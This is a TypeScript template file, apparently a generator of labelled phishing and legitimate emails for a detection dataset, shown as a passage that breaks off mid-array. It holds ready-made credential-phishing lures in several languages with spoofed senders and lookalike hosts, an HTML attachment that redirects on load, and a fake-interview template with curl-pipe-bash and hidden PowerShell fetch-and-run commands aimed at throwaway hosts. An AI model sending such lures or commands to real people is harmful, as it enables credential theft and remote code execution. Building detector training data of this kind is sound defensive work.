// The rest of the seventeenth set: English phishing that would make unseen-17.ts too long (developer-platform,
// status-page, HR and voicemail lures); German, Japanese, Portuguese and Polish phishing aimed at Halyard
// Systems' engineers (code-host and cloud lures, registry and domain notices, fake recruiters and invoices);
// the real mail colleagues, vendors and conferences send them in those languages; and the last of the English
// legitimate mail (deployments, Terraform runs, the company's own notices).
import { zipOf } from './payloads.js';
import {
  brandSender,
  COMPANY,
  DOMAIN,
  FREEMAIL,
  forged,
  mailbox,
  ORG_SLUG,
  own,
  PRODUCT,
  passes,
  spoofed,
  type Template,
  unsigned,
} from './unseen-17-scene.js';
import { onePagePdf } from './unseen-payloads.js';

/** English phishing that would make unseen-17.ts too long: developer-platform, status-page and HR lures. */
export const MORE_PHISHING: Template[] = [
  {
    name: 'apple-developer-membership',
    kind: 'app-store-developer-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['appledeveloper', 'apple-dev', 'appstoreconnect']));
      return {
        ...brandSender(s, 'Apple Developer', 'developer@insideapple.apple.com', 'appledeveloper'),
        subject: s.pick([
          'Your Apple Developer Program membership has expired',
          'App Store Connect: your app has been removed',
          'Action required: update agreement',
        ]),
        blocks: [
          s.greeting(),
          `The membership for ${COMPANY} could not be renewed. ${PRODUCT} Mobile will be removed from the App Store unless you update the payment information.`,
          { button: 'Renew membership', href: `https://${host}${s.path('account', 'renew')}` },
          'Apple Developer Relations',
        ],
      };
    },
  },
  {
    name: 'statuspage-incident-login',
    kind: 'status-page-lure',
    write: (s) => {
      const vendor = s.pick(['Fastly', 'Twilio', 'Stripe', 'Auth0', 'Okta', 'MongoDB Atlas']);
      const host = s.pick([s.throwaway(), s.lookalike(vendor.toLowerCase().split(' ')[0])]);
      return {
        ...own(
          s,
          `${vendor} ${s.pick(['Status', 'Incident Response', 'Security'])}`,
          host,
          s.pick(['status', 'incident', 'noreply']),
        ),
        subject: s.pick([
          `[${vendor}] Incident affecting your account`,
          `${vendor}: your API keys are impacted by the ongoing incident`,
          `[${vendor} Status] Customer action required`,
        ]),
        blocks: [
          s.pick([
            `${vendor} is investigating elevated error rates. Your account is among those whose credentials must be re-issued.`,
            `During the incident of ${s.date()}, session tokens for a subset of customers were exposed. ${COMPANY} is affected.`,
            `A configuration error exposed API keys of some workspaces. Sign in to see whether your keys are listed and rotate them.`,
          ]),
          {
            button: s.pick(['View affected keys', 'Sign in to rotate', 'Check my account']),
            href: `https://${host}${s.path('incidents', s.token(8))}`,
          },
          s.pick([
            'You are receiving this because you are subscribed to incident updates.',
            'Failure to act within 24 hours will result in key revocation.',
          ]),
        ],
      };
    },
  },
  {
    name: 'bitbucket-workspace-invite',
    kind: 'code-host-invitation-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['bitbucket', 'atlassian']));
      const ws = s.pick([
        'acme-contractors',
        'halyard-partners',
        'deployhub-shared',
        'fieldstone-integration',
      ]);
      const role = s.pick(['admin', 'write', 'collaborator']);
      return {
        ...own(
          s,
          s.pick(['Atlassian Bitbucket', 'Bitbucket', 'Atlassian']),
          host,
          s.pick(['noreply', 'invites', 'bitbucket']),
        ),
        brand: 'Bitbucket',
        subject: s.pick([
          `You have been invited to the ${ws} workspace`,
          `${s.full(s.mate)} invited you to Bitbucket`,
          `Invitation to collaborate on ${ws}/${s.repo()}`,
        ]),
        blocks: [
          `${s.pick([s.full(s.mate), 'An administrator', 'A partner'])} has invited you to join the workspace ${ws} with ${role} access.`,
          ...(s.chance(0.5)
            ? [
                {
                  quote: s.pick([
                    'Hi, this is where we keep the integration code for the pilot.',
                    'Please review the shared pipeline before Friday.',
                  ]),
                },
              ]
            : []),
          {
            button: s.pick(['Accept invitation', 'Join workspace']),
            href: `https://${host}${s.path('invitations', ws)}`,
          },
          s.pick([
            'This invitation expires in 48 hours.',
            'Sign in with your Atlassian account or Google to accept.',
          ]),
        ],
      };
    },
  },
  {
    name: 'hosting-platform-payment',
    kind: 'saas-payment-lure',
    write: (s) => {
      const vendor = s.pick(['Vercel', 'Netlify', 'Heroku', 'Render']);
      const host = s.lookalike(vendor.toLowerCase());
      return {
        ...brandSender(s, vendor, `billing@${vendor.toLowerCase()}.com`, vendor.toLowerCase()),
        brand: vendor,
        subject: s.pick([
          'Your deployments have been paused',
          'Payment failed - team downgraded',
          'Final notice: projects will be deleted',
        ]),
        blocks: [
          s.greeting(),
          `We could not charge the card ending in ${s.int(1000, 9999)} for your Pro team. Production deployments are paused and preview URLs return 402.`,
          { button: 'Update payment method', href: `https://${host}${s.path('teams', 'billing')}` },
        ],
      };
    },
  },
  {
    name: 'linkedin-inmail',
    kind: 'social-network-lure',
    write: (s) => {
      const host = s.lookalike('linkedin');
      const sender = s.pick(['Karen Lowe', 'Ahmed Saleh', 'Julia Brandt', 'Victor Hale', 'Nadia Petrova']);
      return {
        ...own(s, 'LinkedIn', host, s.pick(['messages-noreply', 'notifications', 'inmail'])),
        subject: s.pick([
          `${sender} sent you a message about a Principal Engineer role`,
          `You appeared in ${s.int(9, 40)} searches this week`,
          'New InMail: confidential opportunity',
          `${sender} wants to connect`,
        ]),
        blocks: [
          s.pick([
            'You have 1 new message.',
            `${s.victim.first}, you have a new InMail`,
            'Your profile is getting noticed.',
          ]),
          {
            quote: s.pick([
              `Hi, I represent a stealth-mode company raising its Series B. The role pays $${s.int(260, 380)}k + equity. Can I share the details?`,
              'Your experience with feature flags is exactly what our client needs. I have attached the job description in the message.',
              'We are building a developer tools startup and would like you as an advisor. Paid in tokens and cash.',
            ]),
          },
          {
            button: s.pick(['View message', 'Reply', 'See who viewed you']),
            href: `https://${host}${s.path('messaging', 'thread')}`,
          },
        ],
      };
    },
  },
  {
    name: 'internal-payroll-bonus',
    kind: 'hr-bonus-lure',
    write: (s) => {
      const host = s.throwaway();
      return {
        ...(s.chance(0.5)
          ? forged(s, 'People Team', 'people@corp.example')
          : own(s, `${COMPANY} People Team`, host, 'hr')),
        subject: s.pick([
          'Engineering retention bonus - acknowledgement required',
          'Your 2027 compensation statement',
          'Equity refresh approved',
        ]),
        blocks: [
          s.greeting(),
          'Following the calibration, your compensation statement is ready. Sign in with your SSO account to review and acknowledge it before Friday.',
          { button: 'View statement', href: `https://${host}${s.path('compensation')}` },
          'People Team',
        ],
      };
    },
  },
  {
    name: 'terraform-cloud-run',
    kind: 'infra-as-code-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['hashicorp', 'terraform', 'tfcloud']));
      const ws = s.pick(['prod-network', 'edge-eu', 'core-db', 'iam-baseline']);
      return {
        ...brandSender(
          s,
          s.pick(['HCP Terraform', 'Terraform Cloud', 'HashiCorp']),
          'notifications@hashicorp.com',
          'terraform',
        ),
        subject: `${s.pick(['Run needs attention', 'Workspace locked', 'Action required'])}: ${ws} - ${s.pick(['apply errored', 'state lock expired', 'token revoked', 'drift detected'])}`,
        blocks: [
          s.pick([
            'A run in your workspace requires attention. The organization API token was revoked during maintenance and must be re-issued by an owner.',
            `Drift was detected in ${ws}. Auto-apply is blocked until an owner re-authenticates and approves the plan.`,
            `The state of ${ws} was locked by an expired session. Sign in to release the lock before the next scheduled apply.`,
          ]),
          {
            button: s.pick(['Re-authenticate', 'Review plan', 'Unlock workspace']),
            href: `https://${host}${s.path('app', ORG_SLUG, 'workspaces', ws)}`,
          },
          s.pick([
            'HashiCorp, an IBM Company',
            'You are receiving this because you are an owner of this organization.',
          ]),
        ],
      };
    },
  },
  {
    name: 'voicemail-teams',
    kind: 'voicemail-lure',
    write: (s) => {
      const d = s.compromised();
      const host = s.throwaway();
      const secs = s.int(11, 59);
      const caller = `+1 ${s.int(200, 999)} ${s.int(100, 999)} ${s.int(1000, 9999)}`;
      const audio = s.chance(0.4);
      return {
        from: mailbox(
          s.pick(['Voice Messaging', 'Teams Voicemail', 'RingCentral Notification']),
          `${s.pick(['voicemail', 'pbx', 'noreply'])}@${d}`,
        ),
        auth: passes(d),
        subject: s.pick([
          `New voicemail from ${caller} (0:${secs})`,
          'You missed a call from your on-call bridge',
          `Voice message from ${s.pick(['AWS Support', 'Unknown caller', 'Fieldstone Bank'])}`,
        ]),
        blocks: [
          s.pick(['You received a new voice message.', 'You have 1 new voicemail.']),
          {
            rows: [
              ['From', caller],
              ['Duration', `0:${secs}`],
              ['Received', s.when()],
            ],
          },
          audio
            ? 'The message is attached. Open it in your browser to play it.'
            : { button: s.pick(['Play message', 'Listen now']), href: `https://${host}${s.path('vm')}` },
        ],
        parts: audio
          ? [
              {
                type: 'text/html',
                name: `VM_${secs}s_${s.int(1000, 9999)}.htm`,
                content: Buffer.from(
                  `<html><body onload="location.href='https://${host}/vm?u=${s.hex(12)}'">Loading voice message...</body></html>`,
                ),
              },
            ]
          : undefined,
      };
    },
  },
  {
    name: 'openai-api-billing',
    kind: 'ai-api-billing-lure',
    write: (s) => {
      const vendor = s.pick(['OpenAI', 'Anthropic', 'Hugging Face', 'Mistral AI']);
      const stem = vendor.toLowerCase().replace(/ .*/, '');
      const host = s.lookalike(stem);
      return {
        ...brandSender(
          s,
          s.pick([`${vendor} Billing`, vendor, `${vendor} Platform`]),
          `billing@${stem}.com`,
          stem,
        ),
        subject: s.pick([
          'Your API access has been suspended',
          'Payment failed for your API organization',
          'Usage tier downgraded - update payment',
          `Your ${vendor} API key was disabled`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `We were unable to process the payment for your organization. API requests from ${COMPANY} now return 429 errors.`,
            `Your API key ${s.pick(['sk-', 'hf_', 'key-'])}...${s.token(4)} was detected in a public repository and has been disabled. Sign in to issue a new key.`,
            `Your monthly invoice of USD ${s.money(300, 4000)} is overdue. Access will be suspended in 24 hours.`,
          ]),
          {
            button: s.pick(['Update payment details', 'Go to API keys', 'Restore access']),
            href: `https://${host}${s.path('settings', 'billing')}`,
          },
        ],
      };
    },
  },
  {
    name: 'compromised-customer-po',
    kind: 'compromised-partner-share',
    write: (s) => {
      const d = s.compromised();
      const host = s.throwaway();
      const [first, last] = s.pick([
        ['Kate', 'Whitford'],
        ['Paul', 'Renner'],
        ['Mia', 'Osei'],
        ['Tomás', 'Quiroga'],
      ] as const);
      const file = s.pick([
        `PO_${s.int(1000, 9999)}.pdf`,
        `Remittance_${s.int(100, 999)}.pdf`,
        'Signed_Order_Form.pdf',
      ]);
      return {
        from: mailbox(
          `${first} ${last}`,
          `${first.toLowerCase().replace('á', 'a')}.${last.toLowerCase()}@${d}`,
        ),
        auth: passes(d),
        subject: s.pick([
          'RE: your proposal',
          'Signed PO attached',
          'Payment advice',
          `RE: ${PRODUCT} Enterprise quote`,
        ]),
        blocks: [
          s.pick(['Hi,', `Hi ${s.victim.first},`, 'Good morning,']),
          s.pick([
            `As promised, here is the signed purchase order for the ${PRODUCT} Enterprise licences. It is in our secure file share.`,
            'Please see the payment advice for your last invoice below.',
            'Our finance team asked me to share the signed order form through our document portal, as attachments are blocked on our side.',
          ]),
          { link: `View ${file}`, href: `https://${host}${s.path('f')}` },
          s.pick(['Thanks', `Best,\n${first}`, `Kind regards,\n${first} ${last}`]),
        ],
      };
    },
  },
  {
    name: 'github-issue-mention-abuse',
    kind: 'code-host-notification-abuse',
    write: (s) => {
      const repo = s.repo();
      const n = s.int(300, 4200);
      const host = s.lookalike(s.pick(['github', 'gh-security', 'githubapp']));
      const opener = s.pick([
        'security-notice-bot',
        'gh-advisory-team',
        'dependabot-alerts',
        'github-jobs-hr',
      ]);
      const [title, body] = s.pick([
        [
          'Security Alert: unusual access attempt',
          `We have detected a suspicious attempt to access your account. Review your recent activity and secure your account: https://${host}${s.path('security')}`,
        ],
        [
          'Job opportunity at GitHub',
          `Hey there! GitHub is hiring. Your contributions qualify you for an engineering role with a salary of $${s.int(180, 240)},000. Apply through our careers page: https://${host}${s.path('careers')}`,
        ],
        [
          'Your repository violates the terms of service',
          `Your repository will be removed in 24 hours. To appeal, authorize the GitHub Appeals app: https://${host}${s.path('appeal')}`,
        ],
      ] as const);
      return {
        from: mailbox(opener, 'notifications@github.com'),
        auth: passes('github.com'),
        replyTo: `${ORG_SLUG}/${repo} <reply+${s.hex(40).toUpperCase()}@reply.github.com>`,
        headers: [
          `List-ID: ${ORG_SLUG}/${repo} <${repo}.${ORG_SLUG}.github.com>`,
          'X-GitHub-Reason: mention',
        ],
        subject: `[${ORG_SLUG}/${repo}] ${title} (Issue #${n})`,
        blocks: [
          `${body}\n\n${Array.from({ length: s.int(6, 14) }, () => `@${s.token(s.int(5, 9))}`).join(' ')} @${s.handle(s.victim)}`,
          '—\nReply to this email directly, view it on GitHub:',
          {
            link: `https://github.com/${ORG_SLUG}/${repo}/issues/${n}`,
            href: `https://github.com/${ORG_SLUG}/${repo}/issues/${n}`,
          },
          'You are receiving this because you were mentioned.',
        ],
        form: s.pick(['text', 'both'] as const),
      };
    },
  },
  {
    name: 'interview-camera-fix',
    kind: 'fake-interview-command',
    write: (s) => {
      const firm = s.pick(['Quantix Labs', 'Solvane Exchange', 'Meridian Chain', 'Kairo Finance']);
      const domain = s.firmDomain(firm);
      const meet = `meet.${s.throwaway()}`;
      const recruiter = s.pick(['Laura Chen', 'Marcus Reid', 'Elena Voss']);
      const mac = s.chance(0.5);
      return {
        from: mailbox(recruiter, `${recruiter.split(' ')[0].toLowerCase()}@${domain}`),
        auth: passes(domain),
        subject: s.pick([
          `Interview with ${firm} - video link`,
          `${firm}: your technical interview today`,
          'Re: interview - camera not working?',
        ]),
        blocks: [
          s.greeting(),
          `Thank you for joining the interview with our CTO. Here is the link to our video platform: https://${meet}/room/${s.token(8)}`,
          s.pick([
            'Several candidates had trouble with their camera or microphone on our platform. If you see the "camera access error", run the fix below before joining:',
            'Our platform needs a driver update for screen sharing. It takes a few seconds; copy the command into your terminal:',
          ]),
          {
            code: mac
              ? `curl -fsSL https://${meet}/fix/camera.sh | bash`
              : `powershell -w hidden -c "iwr https://${meet}/fix/driver.ps1 | iex"`,
          },
          `See you soon,\n${recruiter}\n${firm}`,
        ],
      };
    },
  },
];

export const LOCAL_PHISHING: Template[] = [
  {
    name: 'de-github-konto-gesperrt',
    kind: 'code-host-account-lock-de',
    write: (s) => {
      const host = s.lookalike('github');
      return {
        ...own(s, 'GitHub Sicherheit', host),
        lang: 'de',
        brand: 'GitHub',
        subject: s.pick([
          'Ihr GitHub-Konto wurde vorübergehend gesperrt',
          'Sicherheitswarnung: ungewöhnliche Anmeldung',
          'Bestätigen Sie Ihre Identität innerhalb von 24 Stunden',
        ]),
        blocks: [
          s.pick([`Hallo ${s.victim.first},`, 'Guten Tag,', `Sehr geehrte/r ${s.full(s.victim)},`]),
          `wir haben eine Anmeldung aus ${s.city()} (IP ${s.ip()}) festgestellt. Zu Ihrem Schutz wurde der Zugriff auf die Organisation ${ORG_SLUG} eingeschränkt.`,
          'Bitte bestätigen Sie Ihre Identität, sonst werden Ihre Repositories und Tokens nach 24 Stunden deaktiviert.',
          { button: 'Identität bestätigen', href: `https://${host}${s.path('login', 'verify')}` },
          'Ihr GitHub-Sicherheitsteam',
        ],
      };
    },
  },
  {
    name: 'de-rechnung-hosting',
    kind: 'hosting-invoice-lure-de',
    write: (s) => {
      const host = s.throwaway();
      const nr = `RE-${s.int(2026000, 2026999)}`;
      return {
        ...(s.chance(0.5)
          ? {
              from: mailbox('Hetzner Online Buchhaltung', 'buchhaltung@hetzner.com'),
              auth: spoofed('hetzner.com', s.throwaway()),
            }
          : own(s, 'Server-Abrechnung', host, 'rechnung')),
        lang: 'de',
        subject: s.pick([
          `Zahlungserinnerung ${nr} - Server werden gesperrt`,
          `Letzte Mahnung: Rechnung ${nr}`,
          'Ihre Zahlung ist fehlgeschlagen',
        ]),
        blocks: [
          'Sehr geehrte Damen und Herren,',
          `leider konnten wir den Betrag von ${s.money(180, 2400).replace('.', ',')} EUR für Rechnung ${nr} nicht einziehen. Ihre dedizierten Server werden am ${s.date()} gesperrt.`,
          'Aktualisieren Sie Ihre Zahlungsdaten im Kundenportal, um eine Sperrung zu vermeiden.',
          { button: 'Zum Kundenportal', href: `https://${host}${s.path('robot', 'zahlung')}` },
          'Mit freundlichen Grüßen\nIhre Buchhaltung',
        ],
      };
    },
  },
  {
    name: 'ja-aws-billing',
    kind: 'cloud-billing-lure-ja',
    write: (s) => {
      const host = s.lookalike(s.pick(['aws', 'aws-billing', 'amazonaws']));
      const account = `${s.int(1000, 9999)}-${s.int(1000, 9999)}-${s.int(1000, 9999)}`;
      return {
        ...own(
          s,
          s.pick(['アマゾン ウェブ サービス', 'AWS 請求チーム', 'Amazon Web Services Japan']),
          host,
          s.pick(['billing', 'info', 'support']),
        ),
        lang: 'ja',
        brand: 'AWS',
        subject: s.pick([
          '【重要】AWSアカウントの支払いに問題があります',
          `AWSアカウント（${account}）一時停止のお知らせ`,
          '【AWS】お支払い情報の確認のお願い',
          '【緊急】不正なアクセスを検知しました',
        ]),
        blocks: [
          s.pick([`${s.victim.last} 様`, 'お客様各位', 'AWS をご利用のお客様']),
          s.pick([
            `ご登録のお支払い方法で今月の請求（${s.money(120000, 980000)} 円）を処理できませんでした。24時間以内に更新されない場合、アカウント ${account} のリソースは停止されます。`,
            `アカウント ${account} で、${s.pick(['シンガポール', 'サンパウロ', 'ムンバイ'])} リージョンから通常とは異なる API 呼び出しを検知しました。本人確認が完了するまで一部のサービスを制限しています。`,
          ]),
          {
            button: s.pick(['お支払い情報を更新する', '本人確認を行う', 'コンソールにサインイン']),
            href: `https://${host}${s.path('billing', 'update')}`,
          },
          s.pick(['Amazon Web Services カスタマーサポート', '※本メールは送信専用です。']),
        ],
      };
    },
  },
  {
    name: 'ja-domain-renewal',
    kind: 'domain-expiry-lure-ja',
    write: (s) => {
      const host = s.throwaway();
      const domain = s.pick(['halyard.example', 'halyard.jp.example', 'corp.example']);
      return {
        ...own(s, 'ドメイン更新センター', host, 'info'),
        lang: 'ja',
        subject: s.pick([
          `【重要】${domain} の有効期限が近づいています`,
          `ドメイン ${domain} 更新手続きのお願い`,
        ]),
        blocks: [
          'ドメイン管理者様',
          `${domain} の有効期限は ${s.date()} です。期限を過ぎるとウェブサイトとメールが停止し、第三者に取得される可能性があります。`,
          { button: '今すぐ更新', href: `https://${host}${s.path('renew')}` },
        ],
      };
    },
  },
  {
    name: 'pt-recrutador-teste',
    kind: 'fake-recruiter-archive-pt',
    write: (s) => {
      const freemail = s.pick(FREEMAIL);
      const name = s.pick(['Camila Duarte', 'Rafael Moura', 'Beatriz Lima']);
      return {
        from: mailbox(name, `${name.toLowerCase().replace(' ', '.')}.rh@${freemail}`),
        auth: passes(freemail),
        lang: 'pt',
        subject: s.pick([
          'Vaga Engenheiro(a) Sênior - teste técnico',
          'Próxima etapa: desafio técnico',
          'Proposta de trabalho remoto em USD',
        ]),
        blocks: [
          `Olá ${s.victim.first}, tudo bem?`,
          `Seu perfil chamou a atenção da nossa equipe para uma vaga de engenharia ${s.pick(['backend', 'de plataforma', 'blockchain'])} 100% remota com salário em dólar.`,
          'Segue em anexo o desafio técnico. Basta descompactar e executar o projeto com o script de inicialização e nos enviar o resultado até amanhã.',
          `Abraços,\n${name}`,
        ],
        parts: [
          { type: 'application/zip', name: 'desafio-tecnico.zip', content: zipOf('desafio/iniciar.bat') },
        ],
      };
    },
  },
  {
    name: 'pt-npm-conta',
    kind: 'package-registry-lure-pt',
    write: (s) => {
      const host = s.lookalike(s.pick(['npmjs', 'npm-registry']));
      return {
        ...own(
          s,
          s.pick(['Equipe npm', 'npm Suporte', 'npm, Inc.']),
          host,
          s.pick(['suporte', 'noreply', 'seguranca']),
        ),
        lang: 'pt',
        subject: s.pick([
          'Sua conta npm será bloqueada',
          'Atualize a autenticação de dois fatores',
          `Token de publicação de @${ORG_SLUG} expirado`,
          'Aviso de segurança: confirme sua conta',
        ]),
        blocks: [
          s.pick([`Olá ${s.victim.first},`, 'Prezado(a) mantenedor(a),', 'Olá,']),
          s.pick([
            `Para proteger os pacotes publicados em @${ORG_SLUG}, todos os mantenedores precisam confirmar a autenticação de dois fatores até ${s.date()}. Contas não confirmadas serão bloqueadas.`,
            `O token de publicação usado pelo seu pipeline expirou após a migração do registro. Entre na sua conta para gerar um novo e evitar falhas nos próximos releases.`,
          ]),
          {
            button: s.pick(['Confirmar agora', 'Entrar na conta', 'Gerar novo token']),
            href: `https://${host}${s.path('login')}`,
          },
          s.pick(['Equipe npm', 'Atenciosamente,\nSuporte npm']),
        ],
      };
    },
  },
  {
    name: 'pl-faktura-domena',
    kind: 'domain-invoice-lure-pl',
    write: (s) => {
      const host = s.throwaway();
      const nr = `FV/${s.int(100, 999)}/12/2026`;
      const domain = s.pick(['halyard.example', 'halyard.pl.example', 'corp.example']);
      const attached = s.chance(0.5);
      return {
        ...(s.chance(0.5)
          ? {
              from: mailbox(s.pick(['Rejestr Domen', 'Krajowy Rejestr Domen']), `faktury@${host}`),
              auth: unsigned(host, 'softfail'),
            }
          : own(
              s,
              s.pick(['Biuro Obsługi Domen', 'Dział Rozliczeń Domen']),
              host,
              s.pick(['faktury', 'rozliczenia']),
            )),
        lang: 'pl',
        subject: s.pick([
          `Faktura ${nr} - odnowienie domeny ${domain}`,
          `Wezwanie do zapłaty - domena ${domain} wygasa`,
          'Ostatnie przypomnienie o płatności',
        ]),
        blocks: [
          s.pick(['Szanowni Państwo,', 'Dzień dobry,']),
          `${attached ? 'w załączeniu przesyłamy' : 'przypominamy o nieopłaconej'} fakturę ${nr} za odnowienie domeny ${domain} (kwota ${s.money(89, 399).replace('.', ',')} zł). Brak płatności do ${s.date()} spowoduje wyłączenie domeny, strony i poczty.`,
          s.pick([
            'Po tym terminie domena może zostać zarejestrowana przez inny podmiot.',
            'Płatność online jest księgowana natychmiast.',
          ]),
          {
            button: s.pick(['Zapłać online', 'Opłać fakturę']),
            href: `https://${host}${s.path('platnosc')}`,
          },
          s.pick(['Z poważaniem\nDział Rozliczeń', 'Pozdrawiamy\nBiuro Obsługi Klienta']),
        ],
        parts: attached
          ? [
              {
                type: 'application/pdf',
                name: `${nr.replace(/\//g, '_')}.pdf`,
                content: onePagePdf(
                  [`Faktura ${nr}`, `Odnowienie domeny ${domain}`, `Zapłać: https://${host}/p`],
                  { link: `https://${host}/p` },
                ),
              },
            ]
          : undefined,
      };
    },
  },
  {
    name: 'pl-sso-haslo',
    kind: 'sso-password-expiry-pl',
    write: (s) => {
      const host = s.throwaway();
      const forgedIt = s.chance(0.6);
      return {
        ...(forgedIt
          ? {
              from: mailbox(
                s.pick(['Dział IT', 'Helpdesk IT']),
                s.pick(['it@corp.example', 'helpdesk@corp.example']),
              ),
              auth: spoofed('corp.example', host),
            }
          : own(s, `Administrator poczty ${COMPANY}`, host, 'admin')),
        lang: 'pl',
        subject: s.pick([
          'Twoje hasło wygasa dzisiaj',
          'Wymagana weryfikacja konta firmowego',
          'Skrzynka pocztowa prawie pełna',
          'Nowe logowanie do Twojego konta',
        ]),
        blocks: [
          s.pick([`Cześć ${s.victim.first},`, 'Dzień dobry,', `Witaj ${s.victim.first},`]),
          s.pick([
            `hasło do konta ${s.address(s.victim)} wygasa dzisiaj. Aby zachować dostęp do poczty, GitHuba i VPN, potwierdź obecne hasło.`,
            `Twoja skrzynka ${s.address(s.victim)} wykorzystuje ${s.int(95, 99)}% miejsca. Nowe wiadomości będą odrzucane, dopóki nie zweryfikujesz konta.`,
            `wykryliśmy logowanie do Twojego konta z ${s.city()}. Jeśli to nie Ty, zweryfikuj konto w ciągu 12 godzin.`,
          ]),
          {
            button: s.pick(['Zachowaj obecne hasło', 'Zweryfikuj konto', 'To nie ja']),
            href: `https://${host}${s.path('sso')}`,
          },
          `Dział IT ${COMPANY}`,
        ],
      };
    },
  },
];

export const LOCAL_HAM: Template[] = [
  {
    name: 'de-kollege-wochenende',
    kind: 'ham',
    write: (s) => {
      const you = s.besides('lena.hoffmann');
      const freemail = s.pick(['gmx.de', 'web.de', 'posteo.de', 'gmail.com']);
      const svc = s.service();
      return {
        to: mailbox(s.full(you), s.address(you)),
        from: mailbox('Lena Hoffmann', `lena.hoffmann${s.int(80, 99)}@${freemail}`),
        auth: passes(freemail),
        lang: 'de',
        subject: s.pick([`${svc}: Alert am Wochenende`, 'Kurz zu Montag', `Re: Deploy von ${svc}`]),
        blocks: [
          `Hi ${you.first},`,
          `ich schreibe von meiner privaten Adresse, der Laptop liegt im Büro. Der ${svc}-Alert von Samstag war nur die Festplatte auf dem Runner, ich habe ihn aufgeräumt. Können wir am Montag im Standup kurz darüber reden, ob wir die Retention von 30 auf 14 Tage runtersetzen?`,
          {
            code: `$ df -h /var/lib/buildkite\nFilesystem  Size  Used Avail Use%\n/dev/nvme1n1  200G  197G  3.0G  99%`,
          },
          'Schönes Wochenende!\nLena',
        ],
        form: 'text',
      };
    },
  },
  {
    name: 'de-bahn-reise',
    kind: 'ham',
    write: (s) => ({
      from: mailbox('DB Vertrieb GmbH', 'buchungsbestaetigung@bahn.de'),
      auth: passes('bahn.de'),
      lang: 'de',
      brand: 'DB',
      subject: `Ihre Buchungsbestätigung (Auftrag ${s.upper(6)})`,
      blocks: [
        `Hallo ${s.full(s.victim)},`,
        'vielen Dank für Ihre Buchung. Ihr Ticket finden Sie im Anhang und in der App DB Navigator.',
        {
          rows: [
            ['Hinfahrt', `${s.date()}, Berlin Hbf → ${s.pick(['München Hbf', 'Köln Hbf', 'Hamburg Hbf'])}`],
            ['Preis', `${s.money(29, 139).replace('.', ',')} EUR`],
          ],
        },
        { link: 'Buchung anzeigen', href: 'https://www.bahn.de/buchung/uebersicht' },
        'Gute Reise wünscht Ihnen\nIhre Deutsche Bahn',
      ],
      parts: [
        {
          type: 'application/pdf',
          name: 'Ticket.pdf',
          content: onePagePdf(['Online-Ticket', 'Berlin Hbf - Fahrkarte', 'Gilt nur mit Ausweis']),
        },
      ],
    }),
  },
  {
    name: 'ja-colleague-release',
    kind: 'ham',
    write: (s) => {
      const you = s.besides('hana.watanabe');
      const [subject, body] = s.pick([
        [
          '来週のリリース手順について',
          `来週の ${PRODUCT} ${s.int(4, 6)}.${s.int(0, 9)} のリリースですが、東京リージョンの切り替えは火曜日の 10:00 JST からで問題ないでしょうか。手順書は Confluence に置いてあります。`,
        ],
        [
          'Re: 東京リージョンの移行計画',
          `移行計画を確認しました。データベースのレプリケーション遅延が ${s.int(2, 9)} 秒ほど出ているので、切り替え前にもう一度計測させてください。`,
        ],
        [
          '障害振り返りの日程',
          `先週の edge-proxy の障害について、振り返りを木曜日の ${s.int(13, 17)}:00 JST に設定したいと思います。タイムラインの下書きは共有ドキュメントにあります。`,
        ],
        [
          'オンコール引き継ぎ',
          '今週のオンコールを引き継ぎます。未解決のアラートは webhooks の遅延だけで、原因は調査中です。詳細は Slack の #incidents にまとめてあります。',
        ],
      ] as const);
      return {
        to: mailbox(s.full(you), s.address(you)),
        from: mailbox('渡辺 花', 'hana.watanabe@corp.example'),
        auth: passes('corp.example'),
        lang: 'ja',
        subject,
        blocks: [
          s.pick([`${you.first}さん`, `${you.last}さん`]),
          s.pick(['お疲れさまです。', 'お疲れさまです、渡辺です。']),
          body,
          ...(s.chance(0.5)
            ? [
                {
                  link: '手順書',
                  href: 'https://halyard.atlassian.net/wiki/spaces/SRE/pages/release-runbook',
                },
              ]
            : []),
          s.pick(['よろしくお願いします。\n渡辺', 'ご確認お願いします。\n渡辺 花']),
        ],
        form: s.pick(['text', 'both'] as const),
      };
    },
  },
  {
    name: 'ja-conference-accepted',
    kind: 'ham',
    write: (s) => {
      const talk = s.pick([
        'フィーチャーフラグで安全にリリースする',
        '20億回の評価から学んだこと',
        'キルスイッチの設計と運用',
      ]);
      const accepted = s.chance(0.7);
      return {
        from: mailbox(
          'SRE Night Tokyo 運営事務局',
          s.pick(['cfp@srenight.example.jp', 'info@srenight.example.jp']),
        ),
        auth: passes('srenight.example.jp'),
        lang: 'ja',
        subject: accepted
          ? s.pick(['【SRE Night Tokyo】登壇採択のお知らせ', '【SRE Night Tokyo】登壇者の皆様へのご案内'])
          : '【SRE Night Tokyo】CFP 選考結果のお知らせ',
        blocks: [
          `${s.victim.last} 様`,
          'この度は CFP にご応募いただきありがとうございました。',
          accepted
            ? `ご提案いただいたセッション「${talk}」を採択させていただきました。登壇料・参加費は一切かかりません。`
            : `慎重に選考いたしましたが、今回は「${talk}」を採択することができませんでした。またのご応募をお待ちしております。`,
          `開催日: ${s.date()}\n会場: ${s.pick(['渋谷', '六本木', 'オンライン'])}`,
          ...(accepted
            ? [{ link: '登壇者向けガイド', href: 'https://srenight.example.jp/speakers/guide' }]
            : []),
          '運営事務局',
        ],
      };
    },
  },
  {
    name: 'pt-recrutadora-real',
    kind: 'ham',
    write: (s) => {
      const name = s.pick(['Juliana Prado', 'Renata Siqueira', 'Tiago Matos', 'Larissa Campos']);
      const role = s.pick(['Staff Engineer', 'SRE Sênior', 'Engenheiro(a) de Plataforma', 'Tech Lead']);
      const city = s.pick(['Lisboa', 'Porto', 'São Paulo', 'Florianópolis']);
      return {
        from: mailbox(name, `${name.split(' ')[0].toLowerCase()}@nuvemtalentos.example.com.br`),
        auth: passes('nuvemtalentos.example.com.br'),
        lang: 'pt',
        subject: s.pick([
          `Oportunidade: ${role} em ${city}`,
          `${role} - conversa rápida?`,
          'Vaga de infraestrutura (híbrido)',
        ]),
        blocks: [
          s.pick([`Olá ${s.victim.first},`, `Oi ${s.victim.first}, tudo bem?`]),
          `Sou ${s.pick(['recrutadora', 'recrutador(a)'])} na Nuvem Talentos e estou ajudando ${s.pick(['uma fintech', 'uma empresa de logística', 'uma healthtech'])} em ${city} a contratar ${role}. ${s.pick(['Vi sua palestra sobre feature flags', 'Encontrei seus commits no OpenFeature', 'Um ex-colega seu indicou seu nome'])} e achei que poderia ter interesse.`,
          s.pick([
